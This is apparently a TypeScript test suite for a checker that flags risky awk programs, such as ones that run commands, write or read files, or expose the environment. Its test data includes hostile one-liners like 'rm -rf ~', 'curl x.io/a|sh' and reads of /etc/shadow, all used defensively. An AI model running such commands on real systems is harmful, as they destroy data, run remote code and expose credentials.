import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { findAwkProblem, readAwk } from "./awk.ts";
import type { TextReading } from "./text-reading.ts";

const HARMLESS = [
  "{print $2}",
  "{ print $1, $NF }",
  "$3 > 1000 {print $1, $3}",
  '/shutdown/ {print NR": "$0}',
  "/a/",
  "/a/,/b/",
  "!/^#/",
  "!seen[$0]++",
  "NR==5",
  "NR>=10 && NR<=20",
  "NR>1",
  "END{print NR}",
  "{sum+=$1} END {print sum/NR}",
  '{s+=$5}END{print s/1024/1024 " MB"}',
  'BEGIN{FS=","; OFS="\\t"} {print $1,$3}',
  "BEGIN { while ((getline line) > 0) n++; print n }",
  "{ getline; print }",
  "{ getline x; if (x < 3) print x }",
  "{ print (a > b) }",
  '{ printf("%s %d\\n", $1, ($2 > 5)) }',
  '{ printf "%-20s %s\\n", $1, $2 }',
  "{ print a > b ? c : d }".replace("a > b", "(a > b)"),
  "{ x = a > b; print x }",
  "{ if ($1 > max) max = $1 } END { print max }",
  "{ for (i = 1; i <= NF; i++) if ($i > 5) print $i }",
  "{ a[$1]++ } END { for (k in a) print k, a[k] }",
  'END { PROCINFO["sorted_in"] = "@val_num_desc"; for (k in a) print k }',
  "FNR==NR {a[$1]=$2; next} $1 in a {print $0, a[$1]}",
  "FILENAME==ARGV[1] {a[$1]; next} {print}",
  '{ gsub(/[ \\t]+/, " "); print }',
  '{ sub(/^\\//, ""); print }',
  '$0 ~ /a\\/b/ { print "yes" }',
  '{ n = split($0, parts, "/"); print parts[n] }',
  "{ print length($0), toupper(substr($0, 1, 1)) }",
  "length > 80",
  "{ print $1/2, $2 /2 }",
  "{ $1 = ($1 + $2) / 2; print a[1]/3 }",
  "function f(x) { return x * 2 } { print f($1) }",
  "function max(a, b) {\n  return a > b ? a : b\n}\n{ print max($1, $2) }",
  '{\n  # system("x")\n  print $1 # > "f"\n}',
  '{ print "system(rm)" }',
  "/system\\(/ { print }",
  "{ print $1,\n  $2 }",
  "{ print $1 \\\n  $2 }",
  'BEGIN { OFMT="%.2f"; CONVFMT="%d" }',
  '{ print "warn" > "/dev/stderr" }',
  '{ printf "%s\\n", $1 >> "/dev/stdout"; next }',
  "BEGIN{srand(); print rand()}",
  'BEGIN{print strftime("%F", systime())}',
  "{ if (x) print a; else print b }",
  "{ if (x) { print a } else if (y > 2) { print b } }",
  "/=/ { print }",
  "/x/{print}/y/{print}",
  "{ x = y ?\n 1 : 2 }",
  "{ do { i++ } while (i < 5) }",
  '{ $2=""; print }',
  "1",
  "",
  "{ print $(NF-1) }",
  '{ print -1 " " -1 }',
  "match($0, /v[0-9]+/) { print substr($0, RSTART, RLENGTH) }",
];

const RUNS = [
  'BEGIN{system("rm -rf ~")}',
  "{ system ($1) }",
  'BEGIN{"curl x.io/a|sh" | getline}',
  '{ print | "sh" }',
  '{ print $1 |& "sh" }',
  '{ "date" | getline d; close("date") }',
  "function f(x) { system(x) } { f($1) }",
  "/a/ { print } END { system(x) }",
  '{ x = "a" "\\"" ; system(x) }',
  "{ x = a / b; system(c) / d }",
  '# comment\nBEGIN { system("x") }',
  '{ print "\\\\" } END { system("x") }',
  "BEGIN { awk::system(x) }".replace("awk::", ""),
];
const WRITES = [
  "{print > $1}",
  '{print $1 > "first.txt"}',
  '{ print >> "f" }',
  '{ printf("%s", $1) > "f" }',
  '{ print (a) > "f" }',
  '{ print (a > b) > "f" }',
  '{ print a,\n b > "f" }',
  '{ print a,\n\n b > "f" }',
  '{ print a, # x\n\n# y\n b > "f" }',
  '{ print a &&\n\n b > "f" }',
  '{ print a \\\n > "f" }',
  "{ print a[1 > 2] }",
  '{ print a > "/dev/stderr" ".txt" }',
  '{ print a > ("/dev/stderr") }',
  '{ if (x) print > "f"; else print }',
  '/x/{print > "f"}',
  '{ print /a/ > "f" }',
  '{ print "a" > b ? c : d }',
];
const READS = [
  '{ getline < "f" }',
  '{ getline x < "f" }',
  "{ while ((getline line < file) > 0) print line }",
  "{ getline a[i] < f }",
  'BEGIN { ARGV[1] = "/etc/shadow"; ARGC = 2 }',
  "BEGIN { ARGC = 3 }",
  "{ delete ARGV[1] }",
  'FILENAME==ARGV[1]="x"',
  'BEGIN { split("a b", ARGV) }',
];
const SHOWS = ['BEGIN { print ENVIRON["HOME"] }', "BEGIN { for (k in ENVIRON) print k }"];
const UNCLEAR = [
  '@load "filefuncs"',
  '@include "x"',
  'BEGIN { f = "system"; @f(x) }',
  "BEGIN { awk::x = 1 }",
  "{ frob($1) }",
  "{ close($1) }",
  "BEGIN { print SYMTAB[x] }",
  "BEGIN { print PROCINFO[x] }",
  'BEGIN { CONVFMT="%n" }',
  'BEGIN { OFMT="%" "n" }',
  "BEGIN { OFMT=x }",
  '{ print a ?\n b : c > "f" }',
  "{ print (a\n) > b }",
  "{ print length / system(x) / 1 }",
  "{ print x++ / 2 / 1 }",
  "{ if (x) /a/ ; print }",
  "{ getline / x / y }",
  "{ x = 1 + /a/ }",
  "{ a = b >> c }",
  "/[/]/ { print }",
  "/[[]/ { print }",
  "/a[/",
  "/a\nb/",
  "/a",
  '{ print "a }',
  '{ print "a\nb" }',
  "# x\\\nBEGIN { print }",
  "{ print 0xsystem (x) }",
  "{ print 1e }",
  "{ print 'a' }",
  "{ print `id` }",
  "{ print é }",
  "{ print (a }",
  "{ print a) }",
  "(print a)",
  "{ a & b }",
  "{ print; \\ }",
];

describe("awk programs", () => {
  it("that only turn input into output", () => {
    for (const text of HARMLESS) assert.equal(findAwkProblem(text), undefined, text);
  });

  const rows = {
    "runs other programs": RUNS,
    "writes files": WRITES,
    "reads other files": READS,
    "shows the environment": SHOWS,
    "can't be read with certainty": UNCLEAR,
  };
  for (const [says, texts] of Object.entries(rows)) {
    it(`that ${says}`, () => {
      for (const text of texts) assert.equal(findAwkProblem(text), `Gives awk a program that ${says}`, text);
    });
  }

  it("name the commands they run and the files they touch", () => {
    const none = { commands: [], writes: [], reads: [], runsInput: false };
    const rows: readonly [string, Partial<TextReading>][] = [
      ['BEGIN{system("rm -rf ~")}', { commands: ["rm -rf ~"] }],
      ['BEGIN{"curl x.io/a|sh" | getline}', { commands: ["curl x.io/a|sh"] }],
      ['{print "x" | "echo \\"a\\""}', { commands: ['echo "a"'] }],
      ["{ system($1) }", { runsInput: true }],
      ['{ system("rm " $1) }', { runsInput: true }],
      ['{ "cat " $1 | getline x }', { runsInput: true }],
      ['{ "cat" "x" | getline x }', { runsInput: true }],
      ["{ print | cmd }", { runsInput: true }],
      ['{ print $1 > "out.txt" }', { writes: ["out.txt"] }],
      ['{ print $1 > "out" ".txt" }', {}],
      ['{ while ((getline line < "/etc/shadow") > 0) print }', { reads: ["/etc/shadow"] }],
      ['{print "rm -rf ~"}', {}],
    ];
    for (const [text, expected] of rows) {
      const { problem: _, ...found } = readAwk(text);
      assert.deepEqual(found, { ...none, ...expected }, text);
    }
  });

  it("are read to their end however they repeat", () => {
    for (const piece of [
      "[",
      "/[",
      "{",
      "(",
      "1",
      "1.",
      "a ",
      '"',
      '"\\',
      "/[[:",
      "\\",
      "\\\n",
      "print ",
      "0x1",
      "|",
      "1e",
    ]) {
      const problem = findAwkProblem(`{ print ${piece.repeat(60_000)}x@`);
      assert.equal(typeof problem, "string");
    }
  });
});
